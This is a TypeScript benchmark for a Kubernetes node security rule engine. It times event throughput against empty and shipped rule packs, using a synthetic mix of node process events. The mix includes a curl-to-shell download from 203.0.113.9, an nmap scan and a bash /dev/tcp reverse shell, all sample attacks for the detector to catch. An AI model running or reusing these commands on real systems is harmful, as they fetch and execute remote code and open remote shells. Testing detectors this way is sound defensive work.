import { cpus } from 'node:os';
import { parseArgs } from 'node:util';
import { Engine } from '../src/engine/engine.js';
import { loadRulePack, type RulePack } from '../src/engine/load-rules.js';
import { defaultRulePackDir } from '../src/engine/rule-pack-dir.js';
import type { HostEvent } from '../src/sources/event.js';

/**
 * Node rule pack benchmark: events per second through Engine.process for
 * a mix of process events like a busy node's (kubelet, runtimes, probes,
 * image builds, a few attacks), with (a) an empty pack, the floor any
 * rule pays, (b) the shipped pack, and (c) the shipped pack with the
 * process index's `on.commands` keys removed, so every process rule meets
 * every event. Phases alternate within one run on fresh event objects,
 * because the engine caches each event's command list.
 *
 *   node dist/bench/node-rules-bench.js [--events 200000] [--runs 5]
 */

const CONTAINER = {
  id: 'c0ffee'.padEnd(64, '0'),
  name: 'web',
  image: 'nginx:1.27',
  privileged: false,
};
const POD = {
  namespace: 'default',
  name: 'web-7d4b9c6f5-x2x7k',
  uid: '5f0c2a9e-3b7d-4c1e-8a6f-2d9b0e4c7a31',
  labels: { app: 'web' },
};

/** Command lines and how often each appears in the mix, per 100 events. */
const MIX: [number, boolean, string[]][] = [
  [
    14,
    false,
    [
      '/usr/bin/runc',
      '--root',
      '/run/containerd/runc/k8s.io',
      'exec',
      '--process',
      '/tmp/runc-process1',
      'a1b2',
    ],
  ],
  [12, true, ['sh', '-c', 'pg_isready -U postgres -h 127.0.0.1 -p 5432']],
  [10, true, ['curl', '-fsS', 'http://localhost:8080/healthz']],
  [
    8,
    false,
    [
      'iptables',
      '-w',
      '5',
      '-W',
      '100000',
      '-S',
      'KUBE-KUBELET-CANARY',
      '-t',
      'nat',
    ],
  ],
  [8, false, ['/opt/cni/bin/bridge']],
  [
    8,
    true,
    [
      '/bin/sh',
      '-c',
      'apt-get update && apt-get install -y --no-install-recommends ca-certificates curl && rm -rf /var/lib/apt/lists/*',
    ],
  ],
  [6, true, ['python3', '/app/manage.py', 'migrate', '--noinput']],
  [
    6,
    false,
    [
      '/usr/bin/containerd-shim-runc-v2',
      '-namespace',
      'k8s.io',
      '-id',
      'a1b2',
      '-address',
      '/run/containerd/containerd.sock',
    ],
  ],
  [6, true, ['nginx', '-g', 'daemon off;']],
  [5, true, ['ls', '-la', '/app']],
  [5, true, ['cat', '/etc/os-release']],
  [4, false, ['systemctl', 'status', 'kubelet']],
  [4, true, ['node', 'dist/server.js']],
  [2, true, ['bash', '-c', 'curl -fsSL http://203.0.113.9/x.sh | sh']],
  [1, true, ['nmap', '-sS', '10.244.0.0/16']],
  [1, true, ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']],
];

function buildEvents(count: number, startMs: number): HostEvent[] {
  const pattern: [boolean, string[]][] = [];
  for (const [weight, inContainer, argv] of MIX) {
    for (let i = 0; i < weight; i++) pattern.push([inContainer, argv]);
  }
  const events: HostEvent[] = [];
  for (let i = 0; i < count; i++) {
    const [inContainer, argv] = pattern[i % pattern.length] as [
      boolean,
      string[],
    ];
    const timeMs = startMs + i;
    events.push({
      id: `bench-${i}`,
      kind: 'process',
      time: new Date(timeMs).toISOString(),
      timeMs,
      cluster: 'bench',
      node: 'aks-node-1',
      container: inContainer ? CONTAINER : 'unknown',
      pod: inContainer ? POD : 'unknown',
      origin: { format: 'bench' },
      truncated: false,
      process: {
        pid: 1000 + (i % 30000),
        ppid: 1,
        exe: argv[0] as string,
        name: (argv[0] as string).split('/').pop()?.slice(0, 15) ?? '',
        argv: [...argv],
        cwd: '/',
        uid: 0,
        auid: 4294967295,
        ancestors: [{ pid: 1, exe: '/pause', name: 'pause', argv: ['/pause'] }],
      },
    });
  }
  return events;
}

function withoutCommandIndex(pack: RulePack): RulePack {
  const rules = pack.rules.map((rule) => {
    const { commands: _commands, ...scope } = rule.scope;
    return { ...rule, scope };
  });
  return { rules, lists: pack.lists };
}

function timePhase(pack: RulePack, count: number): number {
  const events = buildEvents(count, Date.parse('2026-11-02T10:00:00Z'));
  const engine = new Engine(pack, { onClose: () => {} });
  const started = performance.now();
  for (const event of events) engine.process(event);
  const seconds = (performance.now() - started) / 1000;
  return count / seconds;
}

function median(values: number[]): number {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.floor(sorted.length / 2)] as number;
}

function main(): void {
  const { values } = parseArgs({
    options: {
      events: { type: 'string', default: '200000' },
      runs: { type: 'string', default: '5' },
    },
  });
  const count = Number(values.events);
  const runs = Number(values.runs);
  const pack = loadRulePack(defaultRulePackDir());
  const phases: [string, RulePack][] = [
    ['empty pack', { rules: [], lists: pack.lists }],
    ['shipped pack', pack],
    ['shipped pack, no command index', withoutCommandIndex(pack)],
  ];

  // One untimed pass each lets the JIT settle before measuring.
  for (const [, phasePack] of phases) timePhase(phasePack, 20_000);
  const rates = new Map<string, number[]>(phases.map(([name]) => [name, []]));
  for (let run = 0; run < runs; run++) {
    for (const [name, phasePack] of phases) {
      rates.get(name)?.push(timePhase(phasePack, count));
    }
  }

  const processRules = pack.rules.filter((rule) => {
    const kinds = rule.scope.kind;
    return (Array.isArray(kinds) ? kinds : [kinds]).includes('process');
  }).length;
  const baseline = median(rates.get('empty pack') ?? []);
  console.log(
    `node ${process.version}, ${cpus()[0]?.model ?? 'unknown cpu'}, ` +
      `${processRules} process rules, ${count} events x ${runs} runs`,
  );
  for (const [name] of phases) {
    const rate = median(rates.get(name) ?? []);
    const ratio = (baseline / rate).toFixed(2);
    console.log(
      `${name.padEnd(32)} ${Math.round(rate).toString().padStart(9)} ` +
        `events/s  cost x${ratio} of the empty pack`,
    );
  }
}

main();
